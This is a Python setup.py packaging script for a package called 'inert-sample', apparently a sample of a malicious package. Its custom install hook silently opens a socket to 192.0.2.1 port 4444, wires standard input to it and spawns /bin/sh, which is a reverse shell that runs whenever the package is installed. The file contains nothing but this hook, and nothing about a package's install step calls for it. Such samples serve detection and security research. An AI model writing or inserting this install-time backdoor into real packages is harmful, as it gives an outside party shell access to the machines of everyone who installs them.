from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import socket, os, pty
        s = socket.socket()
        s.connect(("192.0.2.1", 4444))
        os.dup2(s.fileno(), 0)
        pty.spawn("/bin/sh")
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
